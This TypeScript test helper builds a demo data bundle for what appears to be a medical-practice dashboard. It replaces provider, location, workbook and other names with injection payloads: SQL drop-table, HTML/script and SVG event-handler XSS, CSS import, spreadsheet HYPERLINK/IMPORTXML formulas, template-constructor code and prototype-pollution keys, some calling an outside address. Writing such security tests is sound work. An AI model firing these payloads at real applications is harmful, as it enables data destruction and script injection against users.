import { editionParts } from '../../scripts/publish/editionParts.ts'
import { writeBundle } from '../../scripts/publish/writeBundle.ts'
import type { Health, Practice } from '../../src/bundle/bundle.ts'
import type { CubeTable } from '../../src/cubes/cube.ts'
import { readCubeTables, readPart } from './syncFolder.ts'

/**
 * Names that someone might type into a spreadsheet to be run by whoever shows them; where they lead is
 * another origin's address, with a slash at its end. Also what spreadsheets and SQL would take for theirs.
 */
export function hostileLabels(address: string): readonly string[] {
  return [
    `'); drop table charges; copy (select 1) to '${address}copy'; --`,
    `<img src="${address}image" onerror="window.evaluated=['image']">`,
    `<svg onload="window.evaluated=['svg']"><image href="${address}drawing"/></svg>`,
    `<script src="${address}script"></script>`,
    `"><iframe src="${address}frame"></iframe>`,
    `javascript:window.evaluated=['link'];fetch('${address}link')`,
    `url(${address}background)`,
    `</style><style>@import url(${address}style)`,
    `=HYPERLINK("${address}formula";"open")`,
    `+1;=IMPORTXML("${address}import","//a")`,
    `{{constructor.constructor('window.evaluated=["template"]')()}}`,
    `${address}plain`,
    `\u202Exml.slaip\u0000`,
    `__proto__`,
  ]
}

/**
 * The open demo bundle of a folder, written into another one with hostile names for its practice, providers,
 * locations, workbooks, tabs, columns and goals. Codes of closed vocabularies stay: no spreadsheet names them.
 */
export async function hostileBundle(
  folder: string,
  { from, address }: { readonly from: string; readonly address: string },
): Promise<readonly string[]> {
  const labels = hostileLabels(address)
  const rename = renamer(labels)
  const contents = {
    tables: (await readCubeTables(from)).map((table) => renamedTable(table, rename)),
    practice: renamedPractice(await readPart<Practice>(from, null, 'practice'), rename),
    health: renamedHealth(await readPart<Health>(from, null, 'health'), rename),
  }
  const head = { demo: true, sealing: null, before: null, syncedAt: '2026-11-04T11:00:00Z' }
  await writeBundle(folder, await editionParts('owner', contents), head)
  return labels
}

type Rename = (kind: string, name: string) => string

/** The same hostile name for the same name of a kind, and no two alike. */
function renamer(labels: readonly string[]): Rename {
  const known = new Map<string, string>()
  const counts = new Map<string, number>()
  return (kind, name) => {
    const key = `${kind} ${name}`
    const found = known.get(key)
    if (found !== undefined) return found
    const count = counts.get(kind) ?? 0
    counts.set(kind, count + 1)
    const round = Math.floor(count / labels.length)
    const label = `${labels[count % labels.length] ?? ''}${round === 0 ? '' : ` ${String(round)}`}`
    known.set(key, label)
    return label
  }
}

function renamedTable(table: CubeTable, rename: Rename): CubeTable {
  const columns = Object.entries(table.columns).map(([name, values]) => {
    const isNamed = name === 'provider' || name === 'location'
    return [name, isNamed ? values.map((value) => rename(name, String(value))) : values] as const
  })
  return { ...table, columns: Object.fromEntries(columns) }
}

function renamedPractice(practice: Practice, rename: Rename): Practice {
  const { provider, location } = practice.filters
  return {
    ...practice,
    name: rename('practice', practice.name),
    filters: {
      ...practice.filters,
      provider: provider.map((name) => rename('provider', name)),
      location: location.map((name) => rename('location', name)),
    },
    targets: practice.targets.map((target) => ({
      ...target,
      scopeId: target.scopeId === null ? null : rename(target.scope, target.scopeId),
      source: target.source === null ? null : rename('source', target.source),
    })),
  }
}

function renamedHealth(health: Health, rename: Rename): Health {
  return {
    ...health,
    tabs: health.tabs.map((tab) => ({
      ...tab,
      workbook: rename('workbook', tab.workbook),
      tab: rename('tab', tab.tab),
    })),
    rejected: health.rejected.map((one) => ({
      ...one,
      tab: rename('tab', one.tab),
      column: one.column === null ? null : rename('column', one.column),
    })),
    warnings: health.warnings.map((text) => rename('warning', text)),
  }
}
